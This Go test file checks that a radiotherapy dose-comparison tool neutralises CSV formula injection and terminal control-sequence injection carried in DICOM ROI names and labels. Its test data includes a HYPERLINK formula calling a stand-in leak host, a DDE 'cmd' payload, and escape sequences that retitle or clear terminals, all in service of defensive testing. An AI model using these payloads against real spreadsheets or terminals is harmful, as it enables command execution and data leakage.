package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"voxgamma/batch"
	"voxgamma/internal/batchtest"
)

// formulaLead reports whether a CSV cell would be read as a formula by a
// spreadsheet: its first character after spaces is =, +, -, @, tab,
// carriage return or line feed (OWASP, "CSV Injection"), or a full-width
// form of = + - @.
func formulaLead(cell string) bool {
	t := strings.TrimLeft(cell, " ")
	if t == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(t)
	return strings.ContainsRune("=+-@\t\r\n\x00＝＋－＠", r)
}

// checkCSVSafe reads a CSV file with encoding/csv and fails the test for
// any cell a spreadsheet would evaluate, unless it is a plain number (the
// program's own negative numbers, such as a dose difference of -1.5 %).
func checkCSVSafe(t *testing.T, path string) [][]string {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", path, err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); err == nil {
				continue
			}
			if formulaLead(cell) {
				t.Errorf("%s row %d column %d: %q would be evaluated as a formula", filepath.Base(path), i+1, j+1, cell)
			}
		}
	}
	return rows
}

// injectionROIs are ROI names a structure set may carry (ROIName is a LO:
// any text of up to 64 characters, PS3.5 6.2): OWASP's and the issue's
// formula payloads, and a target named like the summary's old
// "NAME:RATE;NAME:RATE" list.
var injectionROIs = []batchtest.ROI{
	{Name: `=HYPERLINK("http://x.example/?leak","open")`, InterpretedType: "PTV"},
	{Name: `=cmd|' /C calc'!A0`, InterpretedType: "ORGAN"},
	{Name: "+1+1", InterpretedType: "ORGAN"},
	{Name: "PTV_Small:100.0;PTV_X", InterpretedType: "PTV"},
	{Name: "@SUM(A1:A9)", InterpretedType: "ORGAN"},
}

// TestCSVInjection: ROI names that a spreadsheet would run as formulas
// reach no CSV that voxgamma writes as formulas (compare --csv, sweep
// --csv, batch's result.csv and summary.csv), and the summary's per-target
// pass rates are a JSON list whose entries are exactly the result's targets
// with their own rates, whatever the names hold.
func TestCSVInjection(t *testing.T) {
	dir := t.TempDir()
	f, err := batchtest.Write(filepath.Join(dir, "in", "c1"), batchtest.Spec{ROIs: injectionROIs, Scale: 0.97})
	if err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	r := vgRun(t, "compare", "--reference", f.Reference, "--evaluated", f.Evaluated, "--structures", f.Structures,
		"--csv", filepath.Join(out, "r.csv"), "--json", filepath.Join(out, "r.json"), "-q")
	if r.code == exitError {
		t.Fatalf("compare: %s", r)
	}
	rows := checkCSVSafe(t, filepath.Join(out, "r.csv"))
	res := readResultJSON(t, filepath.Join(out, "r.json"))
	// Each ROI's name reads back as itself behind OWASP's apostrophe.
	for i, roi := range injectionROIs {
		want := roi.Name
		if formulaLead(want) {
			want = "'" + want
		}
		if got := rows[i+2][0]; got != want {
			t.Errorf("result.csv name of ROI %d: %q, want %q", i+1, got, want)
		}
	}

	r = vgRun(t, "sweep", "--reference", f.Reference, "--evaluated", f.Evaluated, "--structures", f.Structures,
		"--doses", "3", "--dtas", "2", "--normalisations", "global", "--csv", filepath.Join(out, "s.csv"), "-q")
	if r.code != exitPass {
		t.Fatalf("sweep: %s", r)
	}
	checkCSVSafe(t, filepath.Join(out, "s.csv"))

	manifest := filepath.Join(dir, "m.csv")
	os.WriteFile(manifest, []byte("id,reference,evaluated,structures\nc1,in/c1/reference.dcm,in/c1/evaluated.dcm,in/c1/structures.dcm\n"), 0o644)
	bout := filepath.Join(t.TempDir(), "b")
	if status, _, stderr := btRun("batch", manifest, "--out", bout, "-q"); status == exitError {
		t.Fatalf("batch: %d\n%s", status, stderr)
	}
	checkCSVSafe(t, filepath.Join(bout, batch.CasesDir, "c1", batch.ResultCSV))
	srows := checkCSVSafe(t, filepath.Join(bout, "summary.csv"))
	col := map[string]int{}
	for i, h := range srows[0] {
		col[h] = i
	}
	var pairs [][2]string
	if err := json.Unmarshal([]byte(srows[1][col["target_pass_rates"]]), &pairs); err != nil {
		t.Fatalf("target_pass_rates %q is not a JSON list: %v", srows[1][col["target_pass_rates"]], err)
	}
	var want [][2]string
	for _, x := range res.ROIs {
		if x.Kind == "target" && x.Source == "structure set" {
			want = append(want, [2]string{x.Name, x.PassRateText})
		}
	}
	if fmt.Sprint(pairs) != fmt.Sprint(want) || len(pairs) != 2 {
		t.Errorf("summary target_pass_rates %q, want the result's 2 targets %q", pairs, want)
	}
}

// terminalAttack are characters an input file may carry to act on the
// terminal that shows it: ESC ] 0 ; ... BEL sets the window title and
// ESC [ 2 J clears the screen (ECMA-48 / xterm control sequences), NUL,
// CR, the C1 CSI (U+009B), and RIGHT-TO-LEFT OVERRIDE (U+202E, Unicode
// Standard Annex #9), which shows "PTV_L\u202e06" as if it read
// backwards.
var terminalAttack = []batchtest.ROI{
	{Name: "PTV\x1b]0;owned\x07", InterpretedType: "PTV"},
	{Name: "Cord\x1b[2J\x00x", InterpretedType: "ORGAN"},
	{Name: "Lung\u202eL\r", InterpretedType: "ORGAN"},
	{Name: "Eye\u009b2J", InterpretedType: "ORGAN"},
}

// checkNoControl fails the test when text holds a character that acts on
// a terminal or reorders text: a C0 control other than line feed and tab
// (and, for an HTML page, carriage return), DEL, a C1 control, or a
// bidirectional embedding, override or isolate (U+202A–U+202E,
// U+2066–U+2069).
func checkNoControl(t *testing.T, what, text string, allowCR bool) {
	t.Helper()
	for i, r := range text {
		bad := r < 0x20 && r != '\n' && r != '\t' && !(allowCR && r == '\r') ||
			r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069
		if bad {
			lo, hi := max(0, i-40), min(len(text), i+40)
			t.Errorf("%s: raw %U at byte %d: %q", what, r, i, text[lo:hi])
			return
		}
	}
}

// TestTerminalInjection: ROI names, a series description and a structure
// set label holding terminal control sequences and a bidirectional
// override reach stdout and stderr (the compare table, the rule lines,
// inspect, an error line, batch and watch logs) and the review page only as
// visible escapes (\x1b, \u202e).
func TestTerminalInjection(t *testing.T) {
	dir := t.TempDir()
	spec := batchtest.Spec{ROIs: terminalAttack, Scale: 0.97, Description: "plan \x1b[8mhidden\x1b[0m \u202eevil", Label: "RS\x1b[2J\x07"}
	f, err := batchtest.Write(filepath.Join(dir, "c1"), spec)
	if err != nil {
		t.Fatal(err)
	}
	other, err := batchtest.Write(filepath.Join(t.TempDir(), "other"), spec) // another frame of reference
	if err != nil {
		t.Fatal(err)
	}
	out := t.TempDir()
	html := filepath.Join(out, "r.html")
	var runs []invocation
	runs = append(runs,
		vgRun(t, "compare", "--reference", f.Reference, "--evaluated", f.Evaluated, "--structures", f.Structures, "--report", html, "-v"),
		vgRun(t, "inspect", f.Reference, f.Structures, dir+"/c1", "-v"),
		// The structure set of another frame: the error line names its label.
		vgRun(t, "compare", "--reference", f.Reference, "--evaluated", f.Evaluated, "--structures", other.Structures),
		vgRun(t, "sweep", "--reference", f.Reference, "--evaluated", f.Evaluated, "--structures", f.Structures, "--doses", "3", "--dtas", "2", "--normalisations", "global"),
	)
	manifest := filepath.Join(dir, "m.csv")
	os.WriteFile(manifest, []byte("id,reference,evaluated,structures\nc1,c1/reference.dcm,c1/evaluated.dcm,c1/structures.dcm\nc2,c1/reference.dcm,c1/evaluated.dcm,"+other.Structures+"\n"), 0o644)
	runs = append(runs, vgRun(t, "batch", manifest, "--out", filepath.Join(t.TempDir(), "b"), "-v"))
	wdir := t.TempDir()
	if _, err := batchtest.Write(filepath.Join(wdir, "w1"), spec); err != nil {
		t.Fatal(err)
	}
	btSettleAll(t, wdir)
	runs = append(runs, vgRun(t, "watch", wdir, "--out", filepath.Join(t.TempDir(), "w"), "--once", "--settle", "1s", "--poll", "50ms", "-v"))
	for _, r := range runs {
		checkNoControl(t, strings.Join(r.args[:1], " ")+" stdout", r.stdout, false)
		checkNoControl(t, strings.Join(r.args[:1], " ")+" stderr", r.stderr, false)
	}
	all := runs[0].stdout + runs[1].stdout + runs[2].stderr
	for _, want := range []string{`PTV\x1b]0;owned\x07`, `Lung\u202eL\x0d`, `RS\x1b[2J`} {
		if !strings.Contains(all, want) {
			t.Errorf("the escaped form %s is not shown", want)
		}
	}
	if !strings.Contains(runs[1].stdout, `plan \x1b[8mhidden\x1b[0m \u202eevil`) {
		t.Errorf("inspect does not show the escaped series description:\n%s", runs[1].stdout)
	}
	page, err := os.ReadFile(html)
	if err != nil {
		t.Fatal(err)
	}
	checkNoControl(t, "report.html", string(page), true)
	if !strings.Contains(string(page), `Cord\x1b[2J\x00x`) {
		t.Error("report.html does not show the escaped ROI name")
	}
}
